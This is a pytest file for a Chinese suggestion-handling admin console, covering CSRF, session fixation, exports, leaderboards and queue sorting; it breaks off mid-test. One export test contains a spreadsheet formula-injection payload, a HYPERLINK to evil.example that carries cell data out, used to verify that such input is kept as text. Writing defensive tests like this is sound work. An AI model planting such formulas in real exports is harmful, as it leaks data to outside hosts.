def test_a_form_sent_twice_takes_its_step_once(client, admin, world, pending):  # noqa: F811
    """A double click on 督办 or 分派 (or a browser sending the form again) posts the same form twice: the
    deputy got two 督办 messages and the 台账 two lines. The second post of a form is the first's outcome."""
    item_page = f"/console/suggestions/{pending['id']}"

    def twice(step_name, data, flash):
        for _ in range(2):
            sent = admin.post(f"{item_page}/{step_name}", data=data)
            assert sent.status_code == 302 and sent.headers["Location"].endswith(item_page)
            assert flashes(admin.get(sent.headers["Location"])) == [flash]

    twice("dispatch", form_fields(admin, item_page, f"{item_page}/dispatch") | {"deputy_id": world["zhang"].id},
          "已分派，等待代表接单。")
    # 督办 is offered once the item is dispatched: its form as the page then shows it.
    twice("supervise", form_fields(admin, item_page, f"{item_page}/supervise") | {"note": "请尽快办理"}, "已督办。")
    item = item_json(client, world["admin"], pending["id"])
    assert [e["action"] for e in item["timeline"]] == ["file", "dispatch", "supervise"]

    # A new page is a new form: the same step taken again on purpose is taken.
    again = form_fields(admin, item_page, f"{item_page}/supervise")
    admin.post(f"{item_page}/supervise", data=again | {"note": "再次督办"})
    item = item_json(client, world["admin"], pending["id"])
    assert [e["action"] for e in item["timeline"]] == ["file", "dispatch", "supervise", "supervise"]


def test_held_items_can_be_released_or_rejected(app, client, admin, world):  # noqa: F811
    held = file(client, world["citizen"], world["station_code"], content="违禁测试 第一条").json
    held_too = file(client, world["citizen"], world["deputy_code"], content="违禁测试 第二条").json
    step(client, world["zhang_h"], held_too["id"], "accept")  # the deputy was quicker than the screening
    assert screen(app) == 2
    assert item_json(client, world["admin"], held["id"])["held_for_review"] is True
    page = admin.get(f"/console/suggestions/{held['id']}").get_data(as_text=True)
    assert "内容审核" in page and "审核通过" in page
    # The sweep's step is the system's, said once (not 系统 · 系统).
    assert re.search(r'<span class="who">系统</span>', page) and "系统 · 系统" not in page

    released = post_form(admin, f"/console/suggestions/{held['id']}/release", {"note": "人工复核无违规内容"})
    assert flashes(admin.get(released.headers["Location"])) == ["已审核通过，建议恢复正常办理。"]
    assert item_json(client, world["admin"], held["id"])["held_for_review"] is False
    again = post_form(admin, f"/console/suggestions/{held['id']}/release", {})
    assert refusal(again) == ["这条建议没有处于待审核状态。"]

    # Held content may be refused at whatever stage the screening found it.
    assert "不予受理" in admin.get(f"/console/suggestions/{held_too['id']}").get_data(as_text=True)
    rejected = post_form(admin, f"/console/suggestions/{held_too['id']}/reject", {"reason": "含违规内容"})
    assert rejected.status_code == 302
    item = item_json(client, world["admin"], held_too["id"])
    assert item["status"] == "rejected" and item["held_for_review"] is True
    assert [e["action"] for e in item["timeline"]] == ["file", "accept", "hold", "reject"]

    # Refused, its words stay hidden but wait for no review: not offered for release, not releasable (which
    # would unhide them), not counted or listed as 待审核; its citizen reads 不予受理.
    assert 'action="/console/suggestions/%d/release"' % held_too["id"] not in \
        admin.get(f"/console/suggestions/{held_too['id']}").get_data(as_text=True)
    late = post_form(admin, f"/console/suggestions/{held_too['id']}/release", {})
    assert refusal(late) == ["这条建议没有处于待审核状态。"]
    assert item_json(client, world["citizen"], held_too["id"])["status_label"] == "不予受理"
    assert client.get("/api/v1/suggestions?held=true", headers=world["admin"]).json["items"] == []
    assert re.search(r"内容待审核</span><strong>0</strong>", admin.get("/console/").get_data(as_text=True))


def test_photos_are_served_to_administrators_in_scope_only(app, client, admin, world):  # noqa: F811
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(buffer, "JPEG")
    upload = client.post(
        "/api/v1/uploads", data={"file": (io.BytesIO(buffer.getvalue()), "p.jpg")}, headers=world["citizen"],
        content_type="multipart/form-data",
    )
    assert upload.status_code == 201, upload.json
    key = upload.json["url"].rsplit("/", 1)[1]
    item = file(client, world["citizen"], world["station_code"], attachment_ids=[upload.json["id"]]).json

    page = admin.get(f"/console/suggestions/{item['id']}").get_data(as_text=True)
    photo_url = f"/console/suggestions/{item['id']}/photos/{key}"
    assert photo_url in page
    # Administrators see a photo before WeChat's image screening has cleared it, marked as such.
    assert '<figcaption class="tag">待检测</figcaption>' in page
    photo = admin.get(photo_url)
    assert photo.status_code == 200 and photo.mimetype == "image/jpeg"
    assert photo.headers["X-Content-Type-Options"] == "nosniff" and photo.headers["Content-Disposition"] == "inline"
    assert Image.open(io.BytesIO(photo.data)).size == (40, 30)

    other = console_login(app, "changsha")
    assert other.get(photo_url).status_code == 404
    assert client.get(photo_url).status_code == 302  # not signed in: to the login page
    another = file(client, world["citizen"], world["station_code"]).json
    assert admin.get(f"/console/suggestions/{another['id']}/photos/{key}").status_code == 404


# --- errors ----------------------------------------------------------------------------------------


def test_a_form_without_its_csrf_token_gets_a_chinese_page(admin, client, world, pending):  # noqa: F811
    response = admin.post(f"/console/suggestions/{pending['id']}/dispatch", data={"deputy_id": world["zhang"].id})
    assert response.status_code == 400
    assert response.mimetype == "text/html"
    assert "页面已过期（可能已在其他窗口重新登录），刚才的操作没有提交。" in response.get_data(as_text=True)
    forged = admin.post(
        f"/console/suggestions/{pending['id']}/dispatch", data={"deputy_id": world["zhang"].id, "csrf_token": "forged"}
    )
    assert forged.status_code == 400 and "页面已过期" in forged.get_data(as_text=True)
    assert item_json(client, world["admin"], pending["id"])["status"] == "pending"


def test_another_sessions_token_or_a_cross_site_form_changes_nothing(app, admin, client, world, pending):  # noqa: F811
    """A token is good only in the session whose page carried it: another administrator's (a page of their
    own, sent from a site they control) is refused, as is a form posted from another site over HTTPS with
    a token that would otherwise be good (a browser that sends the cookie cross-site)."""
    other = console_login(app, "changsha")
    theirs = csrf_token(other, "/console/")
    dispatch = f"/console/suggestions/{pending['id']}/dispatch"
    refused = admin.post(dispatch, data={"deputy_id": world["zhang"].id, "csrf_token": theirs})
    assert refused.status_code == 400 and "页面已过期（可能已在其他窗口重新登录），刚才的操作没有提交。" in refused.get_data(as_text=True)

    secure = "https://localhost"
    own = csrf_token(admin, f"/console/suggestions/{pending['id']}")
    cross_site = admin.post(dispatch, base_url=secure, headers={"Referer": "https://evil.example/form.html"},
                            data={"deputy_id": world["zhang"].id, "csrf_token": own})
    assert cross_site.status_code == 400 and "页面已过期（可能已在其他窗口重新登录），刚才的操作没有提交。" in cross_site.get_data(as_text=True)
    no_referrer = admin.post(dispatch, base_url=secure, data={"deputy_id": world["zhang"].id, "csrf_token": own})
    assert no_referrer.status_code == 400 and "页面已过期" in no_referrer.get_data(as_text=True)
    assert item_json(client, world["admin"], pending["id"])["status"] == "pending"
    same_site = admin.post(dispatch, base_url=secure, headers={"Referer": f"{secure}/console/suggestions/{pending['id']}"},
                           data={"deputy_id": world["zhang"].id, "csrf_token": own})
    assert same_site.status_code == 302  # the same form from the console's own page is taken
    assert item_json(client, world["admin"], pending["id"])["status"] == "assigned"


def test_signing_in_starts_a_new_session_and_the_cookie_is_kept_from_scripts(app, world):  # noqa: F811
    """Session fixation: a session cookie planted before sign-in (its holder knows it, and the form token
    its page carried) opens nothing afterwards; the signed-in browser gets a new cookie, HttpOnly and
    SameSite=Lax (Secure in production: tests/test_operations.py)."""
    planted = app.test_client()
    old_token = csrf_token(planted, "/console/login")
    cookie = planted.get_cookie("session").value
    victim = app.test_client()
    victim.set_cookie("session", cookie)
    signed_in = victim.post("/console/login", data={"username": "chengbei", "password": "password123",
                                                    "csrf_token": old_token})
    assert signed_in.status_code == 302 and signed_in.headers["Location"] == "/console/"
    set_cookie = signed_in.headers["Set-Cookie"]
    assert "HttpOnly" in set_cookie and "SameSite=Lax" in set_cookie and "Secure" not in set_cookie
    assert victim.get_cookie("session").value != cookie
    assert victim.get("/console/").status_code == 200
    attacker = planted.get("/console/")
    assert attacker.status_code == 302 and "/console/login" in attacker.headers["Location"]
    stale = victim.post("/console/logout", data={"csrf_token": old_token})  # the token known before sign-in
    assert stale.status_code == 400 and "页面已过期" in stale.get_data(as_text=True)
    assert victim.get("/console/").status_code == 200  # still signed in: the forged 退出 did nothing


def _token_issued_ago(app, client, seconds):
    """The session's form token as a page showed it ``seconds`` ago (signed as flask-wtf signs it)."""
    class Then(TimestampSigner):
        def get_timestamp(self):
            return super().get_timestamp() - seconds

    csrf_token(client, "/console/")  # the session holds its raw token from the first page on
    with client.session_transaction() as session:
        raw = session["csrf_token"]
    return URLSafeTimedSerializer(app.secret_key, salt="wtf-csrf-token", signer=Then).dumps(raw)


def test_a_page_left_open_for_hours_still_posts_within_the_session(app, admin, client, world, pending):  # noqa: F811
    """The item page opened before a two-hour meeting: 分派 afterwards works (the form's token used to
    expire after flask-wtf's default hour, though the session lasts a working day: 页面已过期, the typed note
    lost). A token older than the session is still refused."""
    item_page = f"/console/suggestions/{pending['id']}"
    stale = _token_issued_ago(app, admin, app.config["PERMANENT_SESSION_LIFETIME"] + 60)
    refused = admin.post(f"{item_page}/dispatch", data={"csrf_token": stale, "deputy_id": world["zhang"].id})
    assert refused.status_code == 400 and "页面已过期" in refused.get_data(as_text=True)

    token = _token_issued_ago(app, admin, 2 * 3600)
    dispatched = admin.post(f"{item_page}/dispatch", data={"csrf_token": token, "deputy_id": world["zhang"].id})
    assert dispatched.status_code == 302
    assert flashes(admin.get(dispatched.headers["Location"])) == ["已分派，等待代表接单。"]
    assert item_json(client, world["admin"], pending["id"])["status"] == "assigned"


# --- exports ---------------------------------------------------------------------------------------


def _workbook(response):
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return load_workbook(io.BytesIO(response.data), read_only=True)


def _filename(response):
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    return unquote(re.search(r"filename\*=UTF-8''([^;]+)", disposition).group(1))


def test_queue_export_follows_the_filters(client, admin, world, pending):  # noqa: F811
    assigned = file(client, world["citizen"], world["deputy_code"], content="公交站台没有遮雨棚。", contact_phone="13912345678").json
    response = admin.get("/console/suggestions/export.xlsx")
    assert _filename(response).startswith("建议清单-") and _filename(response).endswith(".xlsx")
    rows = list(_workbook(response)["建议清单"].values)
    assert rows[0][:5] == ("编号", "提交时间", "类别", "建议内容", "状态")
    assert {(r[0], r[4]) for r in rows[1:]} == {(pending["number"], "待分派"), (assigned["number"], "待接单")}
    assert not any("13912345678" in str(cell) for row in rows for cell in row)  # no phone numbers in exports

    only_pending = list(_workbook(admin.get("/console/suggestions/export.xlsx?status=pending"))["建议清单"].values)
    assert [r[0] for r in only_pending[1:]] == [pending["number"]]

    other = console_login(client.application, "changsha")
    assert list(_workbook(other.get("/console/suggestions/export.xlsx"))["建议清单"].values)[1:] == []


def test_a_capped_export_says_so_on_its_first_sheet_and_in_the_log(client, admin, world, pending, monkeypatch):  # noqa: F811
    """Past MAX_EXPORT_ROWS the file held the first rows and said nothing: an administrator would take it
    for the whole queue. A capped file opens on a sheet that says how many rows it holds of how many; the
    data sheet keeps its header in the first row; the log records the export as capped."""
    from sqlalchemy import select

    from backend.audit.models import AuditEvent
    from backend.console import exports

    def last_export():
        return db.session.scalars(select(AuditEvent).where(AuditEvent.action == "exported").order_by(AuditEvent.id)).all()[-1]

    for n in range(4):
        file(client, world["citizen"], world["station_code"], content=f"第 {n} 条测试建议：楼道灯不亮。")
    whole = load_workbook(io.BytesIO(admin.get("/console/suggestions/export.xlsx").data))
    assert whole.sheetnames == ["建议清单"] and len(list(whole["建议清单"].values)) == 1 + 5  # uncapped: no notice
    assert not any("仅含前" in str(c) for row in whole.active.values for c in row)
    assert "capped" not in last_export().detail

    monkeypatch.setattr(exports, "MAX_EXPORT_ROWS", 3)
    book = load_workbook(io.BytesIO(admin.get("/console/suggestions/export.xlsx").data))
    assert book.sheetnames == ["导出说明", "建议清单"] and book.active.title == "导出说明"
    assert book["导出说明"]["A1"].value == "“建议清单”表仅含前 3 行（共 5 行），请缩小筛选范围后分别导出。"
    rows = list(book["建议清单"].values)
    assert rows[0][:2] == ("编号", "提交时间") and len(rows) == 1 + 3
    logged = last_export()
    assert (logged.detail["rows"], logged.detail["capped"], logged.detail["matched"]) == (3, True, 5)
    page = admin.get("/console/audit").get_data(as_text=True)
    assert "行数：3；未全部导出：是；符合条件行数：5" in page

    # Exactly at the cap is the whole list: no notice.
    monkeypatch.setattr(exports, "MAX_EXPORT_ROWS", 5)
    assert load_workbook(io.BytesIO(admin.get("/console/suggestions/export.xlsx").data)).sheetnames == ["建议清单"]


def test_statistics_export(client, admin, world, pending):  # noqa: F811
    file(client, world["citizen"], world["deputy_code"], category="道路交通").json
    duplicate = file(client, world["stranger"], world["station_code"], content="菜市场门口积水，和别人反映的是同一处。").json
    post_form(admin, f"/console/suggestions/{duplicate['id']}/merge", {"into": pending["number"]})
    response = admin.get("/console/stats/export.xlsx")
    assert _filename(response).startswith("建议统计-")
    wb = _workbook(response)
    assert wb.sheetnames == ["总体指标", "按状态", "按类别", "按联络站", "按承办部门"]
    summary = {row[0]: row[1] for row in wb["总体指标"].values}
    assert summary["建议总数"] == 3 and summary["统计范围"] == "城北联络站"
    assert summary["已办结数"] == 0
    # The merged duplicate is closed, but counted apart: nothing here was handled to a close.
    by_status = dict(list(wb["按状态"].values)[1:])
    assert (by_status["待分派"], by_status["待接单"], by_status["已办结"], by_status["已合并"]) == (1, 1, 0, 1)
    by_category = dict(list(wb["按类别"].values)[1:])
    assert by_category["道路交通"] == 1 and by_category["城市管理"] == 2
    assert list(wb["按联络站"].values)[1] == ("城北联络站", 3, 2, 0, 0, 0)


def _dashboard_board(admin):
    page = admin.get("/console/").get_data(as_text=True)
    data = json.loads(re.search(r'id="dashboard-data">(.*?)</script>', page, re.S).group(1))
    return page, [(r["rank"], r["name"], r["points"]) for r in data["leaderboard"]]


def test_the_dashboards_top_ten_is_the_leaderboards_first_ten(app, admin, world, factory):  # noqa: F811
    """履职积分前十名 listed only the deputies with a score row this year: with three scored it showed three
    (and 本年度暂无积分记录 before any), while the 完整排行 it links to ranks every deputy in office, those
    without a point at 0, and its first ten are ten."""
    page, board = _dashboard_board(admin)
    assert board == [(1, "张伟", 0), (1, "李娜", 0)] and 'id="chart-leaderboard"' in page
    for n in range(10):
        factory.deputy(world["tree"]["hc"], f"代表{n:02d}", phone=f"138000001{n:02d}", stations=[world["station"]])
    with app.app_context():
        ledger.credit(world["li"].id, "suggestion_closed", "suggestion", 2, "测试")
        db.session.commit()
    page, board = _dashboard_board(admin)
    assert len(board) == 10 and board[0] == (1, "李娜", 3) and all(points == 0 for _, _, points in board[1:])
    top = admin.get("/console/leaderboard").get_data(as_text=True)
    listed = re.findall(r'<td class="rank">(\d+)</td>\s*<td>([^<]+)</td>.*?<td class="points">(-?\d+)</td>', top, re.S)
    assert [(int(rank), name, int(points)) for rank, name, points in listed][:10] == board
    # A scope with no deputy in office: nothing to rank, said so.
    page, board = _dashboard_board(console_login(app, "changsha"))
    assert board == [] and "暂无在任代表" in page


def test_leaderboard_export_ranks_every_deputy_in_scope(app, admin, world, factory):  # noqa: F811
    wang = factory.deputy(world["tree"]["hc"], "王芳", phone="13800000005", stations=[world["station"]])
    factory.deputy(world["tree"]["yl"], "岳麓代表", phone="13800000099")  # Changsha's, not Chengbei's
    with app.app_context():
        ledger.credit(world["zhang"].id, "suggestion_closed", "suggestion", 1, "测试")
        ledger.credit(world["li"].id, "suggestion_closed", "suggestion", 2, "测试")
        ledger.credit(world["li"].id, "suggestion_satisfied", "suggestion", 2, "测试")
        db.session.commit()
    response = admin.get("/console/leaderboard/export.xlsx")
    assert _filename(response).startswith("履职积分排行-")
    wb = _workbook(response)
    rows = list(wb[wb.sheetnames[0]].values)
    assert rows[0] == ("名次", "代表", "代表层级", "代表小组", "积分")
    # Every deputy the administrator manages: one without a point this year stands last, at 0.
    assert [r[1] for r in rows[1:]] == ["李娜", "张伟", "王芳"]
    assert [r[0] for r in rows[1:]] == [1, 2, 3] and rows[1][2] == "市人大代表"
    assert rows[1][4] > rows[2][4] > rows[3][4] == 0
    assert wang.name == "王芳"

    other = console_login(app, "changsha")
    wb = _workbook(other.get("/console/leaderboard/export.xlsx"))
    assert [(r[0], r[1], r[4]) for r in list(wb[wb.sheetnames[0]].values)[1:]] == [(1, "岳麓代表", 0)]


def test_the_leaderboard_lists_the_lowest_scorers_for_a_talk(app, admin, world, factory):  # noqa: F811
    """末位: the deputies the administrator answers for, lowest first, those without a point at 0, ranked from
    the bottom (倒数名次, ties equal), each with their archive; the public board's top stays as it was."""
    for name, phone in (("王芳", "13800000005"), ("赵磊", "13800000006")):
        factory.deputy(world["tree"]["hc"], name, phone=phone, stations=[world["station"]])
    factory.deputy(world["tree"]["yl"], "岳麓代表", phone="13800000099")  # another region's
    with app.app_context():
        ledger.credit(world["zhang"].id, "suggestion_closed", "suggestion", 1, "测试")
        ledger.credit(world["li"].id, "suggestion_closed", "suggestion", 2, "测试")
        ledger.credit(world["li"].id, "suggestion_satisfied", "suggestion", 2, "测试")
        db.session.commit()
    page = admin.get("/console/leaderboard?order=lowest").get_data(as_text=True)
    assert "积分最低者在前" in page and "<th>倒数名次</th>" in page
    listed = re.findall(r'<td class="rank">(\d+)</td>\s*<td>([^<]+)</td>.*?<td class="points">(-?\d+)</td>', page, re.S)
    assert [(int(rank), name) for rank, name, _ in listed] == [(1, "赵磊"), (1, "王芳"), (3, "张伟"), (4, "李娜")]
    assert [int(points) for *_, points in listed][:2] == [0, 0]
    assert "岳麓代表" not in page
    assert page.count("履职档案</a>") == 4
    top = admin.get("/console/leaderboard").get_data(as_text=True)
    assert re.search(r'<td class="rank">1</td>\s*<td>李娜</td>', top)
    assert re.search(r'<td class="rank">3</td>\s*<td>王芳</td>', top)  # at 0, as 履职评价 ranks them
    # The filters narrow it: no deputy of the administrator's is a national one.
    assert "该范围内没有您管辖的在任代表。" in admin.get(
        "/console/leaderboard?order=lowest&level=national").get_data(as_text=True)


def test_a_console_address_that_is_no_page_answers_with_a_console_page(admin, client):
    """A mistyped link, an old bookmark: a page in Chinese with the way back (it was the API's raw JSON); the
    API's own answers stay JSON. (A form's address opened as a page: test_console_form_addresses.)"""
    for path, status in (("/console/suggestion", 404), ("/console/suggestions/abc", 404)):
        page = admin.get(path)
        assert (page.status_code, page.mimetype) == (status, "text/html"), path
        assert "您要找的页面不存在，请从导航栏重新进入。" in page.get_data(as_text=True)
        assert 'href="/console/">返回工作台</a>' in page.get_data(as_text=True)
    assert client.get("/api/v1/nothing-here").json == {"error": "not_found", "message": "您要找的内容不存在。"}
    assert client.put("/api/v1/health").json["error"] == "method_not_allowed"


def test_the_forward_form_refuses_control_characters_in_the_number_and_department(client, admin, world, pending):  # noqa: F811
    step(client, world["admin"], pending["id"], "dispatch", deputy_id=world["zhang"].id)
    step(client, world["zhang_h"], pending["id"], "accept")
    base = f"/console/suggestions/{pending['id']}"
    for form, message in (
        ({"department": "县住建局", "work_order_no": "ZJ\x01001"}, "工单编号不能包含换行、制表符等控制字符或不可见字符。"),
        ({"department": "县住建局", "work_order_no": "ZJ\r\n001"}, "工单编号不能包含换行、制表符等控制字符或不可见字符。"),
        ({"department": "县住\x0b建局"}, "承办部门不能包含换行、制表符等控制字符或不可见字符。"),
    ):
        refused = post_form(admin, f"{base}/forward", {"target": "department", "note": "请住建局处理", **form})
        assert refusal(refused) == [message]
    item = item_json(client, world["admin"], pending["id"])
    assert (item["status"], item["work_orders"]) == ("accepted", [])


def test_exports_drop_control_characters_a_worksheet_refuses(app, client, admin, world):  # noqa: F811
    """A citizen's words may hold a control character, and work orders kept before forwarding refused
    them may too: the exports drop the character rather than fail with a 500."""
    from backend.extensions import db
    from backend.suggestions.models import Suggestion, SuggestionWorkOrder

    filed = file(client, world["citizen"], world["deputy_code"], content="幸福路\x01路灯坏了\x1b。")
    assert filed.status_code == 201, filed.json
    step(client, world["zhang_h"], filed.json["id"], "accept")
    assert step(client, world["zhang_h"], filed.json["id"], "forward", target="department", department="县住建局",
                note="请处理。").status_code == 200
    with app.app_context():
        item = db.session.get(Suggestion, filed.json["id"])
        item.forward_department = item.forward_work_order_no = "县住建局\x07"
        db.session.execute(db.update(SuggestionWorkOrder).values(department="县住建局\x07"))
        db.session.commit()

    queue = list(_workbook(admin.get("/console/suggestions/export.xlsx"))["建议清单"].values)
    columns = [queue[0].index(name) for name in ("建议内容", "转办部门", "工单编号")]
    assert [queue[1][i] for i in columns] == ["幸福路路灯坏了。", "县住建局", "县住建局"]
    departments = list(_workbook(admin.get("/console/stats/export.xlsx"))["按承办部门"].values)
    assert departments[1][:2] == ("县住建局", 1)


def test_exports_keep_words_that_look_like_formulas_as_text(client, admin, world):  # noqa: F811
    """A citizen's words starting with =, +, - or @ reach the administrator's Excel as the text they
    wrote, marked as text as Excel marks a typed apostrophe: never a formula that runs (or calls out to
    a link) when the file is opened, nor one once the cell is edited."""
    words = ['=HYPERLINK("http://evil.example/?d="&A2,"点击查看")', "+86 路灯坏了", "-幸福路积水", "@SUM(1+1)*cmd"]
    for content in words:
        assert file(client, world["citizen"], world["deputy_code"], content=content).status_code == 201
    sheet = load_workbook(io.BytesIO(admin.get("/console/suggestions/export.xlsx").data))["建议清单"]
    column = [c.value for c in sheet[1]].index("建议内容") + 1
    cells = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
    assert sorted(c.value for c in cells) == sorted(words)
    assert all(c.data_type == "s" and c.quotePrefix for c in cells), [(c.value, c.data_type) for c in cells]


def test_a_dashboard_slow_to_count_is_kept_for_a_period_and_says_when_while_the_queue_stays_exact(
        app, client, world, factory, config_override):  # noqa: F811
    """Figures that take DASHBOARD_CACHE_AFTER_MS to count (a province's) are kept for
    DASHBOARD_CACHE_SECONDS, and the page says when they were counted; the queue behind them is exact.
    Figures counted fast (this city's few items, by default) stay live at every view."""
    def total(page):
        html = page.get_data(as_text=True)
        return json.loads(re.search(r'id="dashboard-data">(.*?)</script>', html, re.S).group(1))["total"]

    factory.admin("huaihua", region=world["tree"]["hh"])
    city = console_login(app, "huaihua")
    file(client, world["citizen"], world["station_code"], content="城北菜市场门口积水严重。")
    live = city.get("/console/")
    assert total(live) == 1 and "数据截至页面打开时" in live.get_data(as_text=True)

    config_override(DASHBOARD_CACHE_AFTER_MS=0)  # as if counting this city took seconds
    first = city.get("/console/")
    assert total(first) == 1
    assert re.search(r"统计时间：\d{4}-\d{2}-\d{2} \d{2}:\d{2}，每 5 分钟更新；点开的清单为实时数据", first.get_data(as_text=True))
    second = file(client, world["citizen"], world["station_code"], content="西门路灯不亮。").json
    assert total(city.get("/console/")) == 1
    assert second["number"] in city.get("/console/suggestions").get_data(as_text=True)
    station = console_login(app, "chengbei")  # another scope: counted for itself
    assert total(station.get("/console/")) == 2

    config_override(DASHBOARD_CACHE_SECONDS=0)  # off: every view counts afresh
    fresh = city.get("/console/")
    assert total(fresh) == 2 and "统计时间" not in fresh.get_data(as_text=True)


# --- the queue's order and its number search ----------------------------------------------------


QUEUE_NUMBERS = re.compile(r'<td class="nowrap"><a href="/console/suggestions/\d+">(MSB-\d{8}-\d+)</a>')


def _queue_numbers(page):
    """The numbers of the queue's rows, top to bottom."""
    return QUEUE_NUMBERS.findall(page.get_data(as_text=True))


def _link(page, text):
    """The address of the link ``text`` on the page."""
    match = re.search(rf'<a [^>]*href="([^"]+)"[^>]*>{re.escape(text)}</a>', page.get_data(as_text=True))
    assert match, f"no link {text}"
    return html.unescape(match.group(1))


def _sort_choices(page):
    """The queue's 排序 choices as (label, its address, whether chosen)."""
    nav = re.search(r'<nav class="sort-choices" aria-label="排序">(.*?)</nav>', page.get_data(as_text=True), re.S)
    assert nav, "no 排序 on the page"
    return [(label, html.unescape(href), bool(current))
            for href, current, label in re.findall(r'<a href="([^"]+)"( aria-current="true")?>([^<]+)</a>', nav.group(1))]


@pytest.fixture
def staged(app, client, admin, world):  # noqa: F811
    """Five items of the station, filed in this order, at each stage of the workflow:
    rejected (不予受理), overdue to be accepted (超期), pending (待分派), being handled with its reply due
    in an hour, waiting to be accepted within a day."""
    def filed(code, content):
        response = file(client, world["citizen"], code, content=content)
        assert response.status_code == 201, response.json
        return response.json

    items = {
        "rejected": filed(world["station_code"], "广告牌太多，影响市容。"),
        "overdue": filed(world["deputy_code"], "幸福路的井盖松动，车一压就响。"),
        "pending": filed(world["station_code"], "城北菜市场门口积水严重。"),
        "handled": filed(world["station_code"], "公交站台没有遮雨棚。"),
        "to_accept": filed(world["deputy_code"], "小区门口路灯坏了一个月。"),
    }
    post_form(admin, f"/console/suggestions/{items['rejected']['id']}/reject", {"reason": "不属于代表联络站受理范围"})
    post_form(admin, f"/console/suggestions/{items['handled']['id']}/dispatch", {"deputy_id": world["li"].id})
    assert step(client, world["li_h"], items["handled"]["id"], "accept").status_code == 200
    now = utcnow()
    with app.app_context():
        overdue = db.session.get(Suggestion, items["overdue"]["id"])
        overdue.accept_due_dt, overdue.overdue = now - timedelta(hours=3), True
        db.session.get(Suggestion, items["handled"]["id"]).reply_due_dt = now + timedelta(hours=1)
        db.session.get(Suggestion, items["to_accept"]["id"]).accept_due_dt = now + timedelta(hours=20)
        db.session.commit()
    return {name: item["number"] for name, item in items.items()}


def test_the_queue_sorts_newest_first_by_deadline_or_earliest_first(admin, staged):
    """按期限: the deadline the station chases first on top — to accept for an item waiting for its
    deputy, to reply for one being handled — then the open items without a running deadline, then the
    finished ones; 最早提交: the order they were filed in. Newest first stays the default."""
    newest = admin.get("/console/suggestions")
    assert _queue_numbers(newest) == [staged[name] for name in ("to_accept", "handled", "pending", "overdue", "rejected")]
    assert [(label, chosen) for label, _, chosen in _sort_choices(newest)] == [
        ("最新提交", True), ("按期限", False), ("最早提交", False)]

    by_deadline = admin.get(_link(newest, "按期限"))
    assert _queue_numbers(by_deadline) == [
        staged[name] for name in ("overdue", "handled", "to_accept", "pending", "rejected")]
    first_row = re.search(r"<tbody>\s*<tr>(.*?)</tr>", by_deadline.get_data(as_text=True), re.S).group(1)
    assert "超期" in first_row and "接单" in first_row
    assert [(label, chosen) for label, _, chosen in _sort_choices(by_deadline)] == [
        ("最新提交", False), ("按期限", True), ("最早提交", False)]
    assert "共 5 件</p>" in by_deadline.get_data(as_text=True)  # an order is no filter

    earliest = admin.get(_link(by_deadline, "最早提交"))
    assert _queue_numbers(earliest) == [staged[name] for name in ("rejected", "overdue", "pending", "handled", "to_accept")]
    assert _queue_numbers(admin.get("/console/suggestions?sort=nonsense")) == _queue_numbers(newest)


def test_the_order_goes_with_the_filters_and_the_filters_with_the_order(admin, staged):
    """An order chosen on 未办结 keeps 未办结; filtering, a quick filter, and the order chosen stay. 未办结 and the
    tabs of open work are read 按期限 unless another order is chosen; 全部 newest first."""
    open_items = admin.get("/console/suggestions?open=1")
    assert [(label, chosen) for label, _, chosen in _sort_choices(open_items)] == [
        ("最新提交", False), ("按期限", True), ("最早提交", False)]
    newest = admin.get(_link(open_items, "最新提交"))
    assert parse_qs(urlsplit(_link(open_items, "最新提交")).query) == {"open": ["1"], "sort": ["newest"]}
    assert _queue_numbers(newest) == [staged[name] for name in ("to_accept", "handled", "pending", "overdue")]
    assert re.search(r'<input type="hidden" name="sort" value="newest">', newest.get_data(as_text=True))
    overdue_only = _link(newest, "超期")
    assert parse_qs(urlsplit(overdue_only).query) == {"overdue": ["1"], "open": ["1"], "sort": ["newest"]}
    assert re.search(r'<a href="[^"]+" class="active">超期</a>', admin.get(overdue_only).get_data(as_text=True))
    # 按期限 chosen on 全部 goes to 未办结 as its own order: nothing to add to the address.
    by_deadline = admin.get(_link(admin.get("/console/suggestions"), "按期限"))
    assert parse_qs(urlsplit(_link(by_deadline, "未办结")).query) == {"open": ["1"]}
    assert parse_qs(urlsplit(_link(by_deadline, "全部")).query) == {"sort": ["due"]}


def test_the_order_is_kept_across_pages_the_item_page_and_the_export(client, admin, world, staged, monkeypatch):  # noqa: F811
    """Working down the queue 按期限, page 2: the pager, the item page's way back and the Excel export
    keep the order, and the export lists every row in the order the pages show them — read in batches
    as a province's export is."""
    from backend.console import exports

    for n in range(18):
        file(client, world["citizen"], world["station_code"], content=f"第 {n} 条测试建议：楼道灯不亮。")
    monkeypatch.setattr(exports, "EXPORT_BATCH", 4)
    orders = {}
    for sort in ("due", "oldest", None):
        kept = {"sort": [sort]} if sort else {}
        first = admin.get("/console/suggestions" + (f"?sort={sort}" if sort else ""))
        assert "上一页" not in first.get_data(as_text=True)
        second_url = _link(first, "下一页")
        assert set(parse_qs(urlsplit(second_url).query)) == {"after", "n"} | set(kept)
        assert parse_qs(urlsplit(second_url).query).get("sort") == kept.get("sort")
        second = admin.get(second_url)
        assert "下一页" not in second.get_data(as_text=True)
        shown = orders[sort] = _queue_numbers(first) + _queue_numbers(second)
        assert len(shown) == len(set(shown)) == 23

        export_url = _link(second, "导出当前筛选（Excel）")
        assert parse_qs(urlsplit(export_url).query) == kept
        exported = list(_workbook(admin.get(export_url))["建议清单"].values)
        assert [row[0] for row in exported[1:]] == shown, sort

        opened = re.search(r'<td class="nowrap"><a href="(/console/suggestions/\d+)">', second.get_data(as_text=True))
        back = _link(admin.get(opened.group(1)), "返回列表")
        assert parse_qs(urlsplit(back).query) | {"n": ["23"]} == parse_qs(urlsplit(second_url).query)
        assert _queue_numbers(admin.get(_link(second, "上一页"))) == _queue_numbers(first)

    assert orders["due"][:3] == [staged["overdue"], staged["handled"], staged["to_accept"]]
    assert orders["due"][3] == staged["pending"] and orders["due"][-1] == staged["rejected"]
    assert orders["oldest"] == orders[None][::-1] and orders["oldest"][0] == staged["rejected"]


def test_the_keyword_finds_an_item_by_its_number_as_a_citizen_reads_it_out(client, admin, world, staged):  # noqa: F811
    """On the phone a citizen reads out the whole number, with or without MSB and its dashes, or only
    its last digits: each finds the item, and the page says it looked for a number. Words, and fewer
    than three digits, search the content as before."""
    def full_width(text):  # as a Chinese input method types it
        return "".join(chr(ord(c) + 0xFEE0) for c in text)

    number = staged["handled"]
